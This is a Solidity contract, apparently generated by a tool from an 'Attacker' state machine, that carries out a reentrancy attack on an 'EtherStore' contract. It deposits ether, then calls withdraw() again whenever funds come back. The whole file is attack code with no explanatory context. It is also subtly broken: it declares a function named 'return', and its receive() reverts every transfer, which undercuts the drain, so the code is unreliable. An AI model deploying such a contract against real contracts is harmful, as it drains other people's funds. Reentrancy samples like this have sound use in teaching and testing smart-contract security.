// SPDX-License-Identifier: MIT
// Generated from the Attacker state machine; do not edit.
pragma solidity ^0.8.19;

contract Attacker {
    enum State { Start, CollectDeposit, EtherstoreDeposit, EtherstoreWithdraw, AcceptReturn, Attack }
    enum TimerPhase { Off, Active, Fired }
    struct Timer { TimerPhase phase; uint256 remaining; }

    State public skeleton;
    uint256 private reentrancyCounter;
    uint256 private coinLedger;
    address payable public ownerAddr;
    address payable public immutable creatorAddr;
    address payable private estore;
    uint256 private loot;

    modifier defended() {
        require(reentrancyCounter <= 1, "reentrancy limit");
        reentrancyCounter += 1;
        _;
        reentrancyCounter -= 1;
        require(heldCoins() == coinLedger, "coin conservation");
    }

    constructor(address payable p_estore) {
        ownerAddr = payable(msg.sender);
        creatorAddr = payable(msg.sender);
        estore = p_estore;
        require((estore != payable(address(0))), "constructor constraint");
        skeleton = State.Start;
    }

    function heldCoins() private view returns (uint256 total) {
        total += loot;
        // coins inside maps are accounted for at their move sites
    }

    function send() external payable defended {
        coinLedger += msg.value;
        if (skeleton == State.Start) {
            address payable c = payable(msg.sender);
            uint256 amt = msg.value;
            if ((amt >= 1)) {
                loot += amt;
                amt = 0;
                require(amt == 0, "coins not banked");
                skeleton = State.CollectDeposit;
                tauClosure();
                return;
            }
        }
        revert("no transition enabled");
    }

    function return() external payable defended {
        coinLedger += msg.value;
        if (skeleton == State.EtherstoreWithdraw) {
            address payable b = payable(msg.sender);
            uint256 balance = msg.value;
            loot += balance;
            balance = 0;
            require(balance == 0, "coins not banked");
            skeleton = State.AcceptReturn;
            tauClosure();
            return;
        }
        revert("no transition enabled");
    }

    function tauClosure() private {
        bool progressed = true;
        while (progressed) {
            progressed = false;
            if (skeleton == State.CollectDeposit) {
                {
                    uint256 callValue = loot;
                    loot = 0;
                    coinLedger -= callValue;
                    (bool ok, ) = estore.call{value: callValue}(abi.encodeWithSignature("deposit()"));
                    require(ok, "message refused");
                }
                skeleton = State.EtherstoreDeposit;
                progressed = true;
                continue;
            }
            if (skeleton == State.EtherstoreDeposit) {
                {
                    uint256 callValue = 0;
                    coinLedger -= callValue;
                    (bool ok, ) = estore.call{value: callValue}(abi.encodeWithSignature("withdraw()"));
                    require(ok, "message refused");
                }
                skeleton = State.EtherstoreWithdraw;
                progressed = true;
                continue;
            }
            if (skeleton == State.AcceptReturn) {
                if ((loot >= 1)) {
                    {
                        uint256 callValue = 0;
                        coinLedger -= callValue;
                        (bool ok, ) = estore.call{value: callValue}(abi.encodeWithSignature("withdraw()"));
                        require(ok, "message refused");
                    }
                }
                skeleton = State.Attack;
                progressed = true;
                continue;
            }
            if (skeleton == State.Attack) {
                skeleton = State.EtherstoreWithdraw;
                progressed = true;
                continue;
            }
        }
    }

    receive() external payable {
        revert("direct transfers are not part of the protocol");
    }
}
